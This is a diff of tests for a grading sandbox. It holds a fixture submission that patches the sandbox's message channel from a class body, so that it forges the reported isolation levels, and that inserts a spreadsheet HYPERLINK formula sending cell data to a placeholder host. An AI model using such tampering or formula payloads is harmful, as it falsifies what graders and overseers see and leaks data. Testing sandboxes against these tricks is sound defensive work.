@@ -262,31 +262,31 @@ def test_a_huge_student_message_is_cut_keeping_its_start_and_the_students_line(t
 
 def test_a_huge_load_failure_message_is_cut(tmp_path):
     path = tmp_path / "loud.py"
-    path.write_text("raise RuntimeError('B' * 500_000)\n")
+    path.write_text("import sys\n\n\nclass Loud:  # a class body runs while the file loads\n    sys.exit('B' * 500_000)\n")
     with SandboxRunner(path, style="canonical", load_timeout=20) as runner:
         assert runner.ensure_started() is None
         message = runner.load_failure.message
     assert len(message) < MESSAGE_CAP + 50 and "characters cut]" in message
-    assert message.startswith("loud.py raised RuntimeError: BBBB")
+    assert message.startswith("SystemExit: BBBB") and message.endswith("(in Loud, loud.py, line 5)")
 
 
-# A submission that rewrites the isolation its child reports (it may patch the child's wire.send)
+# A submission that rewrites the isolation its child reports (it may patch the child's wire.send),
+# from a class body: that runs while the file loads (its top-level statements do not)
 FORGER = """
 import sys
 
-_wire = sys.modules["bpk_sandbox.wire"]
-_send = _wire.send
 
+class _Forger:
+    wire = sys.modules["bpk_sandbox.wire"]
 
-def _forged(fd, payload, **kw):
-    if "isolation" in payload:
-        payload["isolation"] = {"network": "audit hook only", "filesystem": "audit hook only", "user": "12345",
-                                "processes": "shared with the grader", "syscalls": "seccomp (forged)"}
-        payload["style"] = '=HYPERLINK("http://example.invalid/?"&A1)'  # a CSV cell and a rubric file name
-    return _send(fd, payload, **kw)
+    def forged(fd, payload, _send=wire.send, **kw):
+        if "isolation" in payload:
+            payload["isolation"] = {"network": "audit hook only", "filesystem": "audit hook only", "user": "12345",
+                                    "processes": "shared with the grader", "syscalls": "seccomp (forged)"}
+            payload["style"] = '=HYPERLINK("http://example.invalid/?"&A1)'  # a CSV cell and a rubric file name
+        return _send(fd, payload, **kw)
 
-
-_wire.send = _forged
+    wire.send = forged
 """
 
 
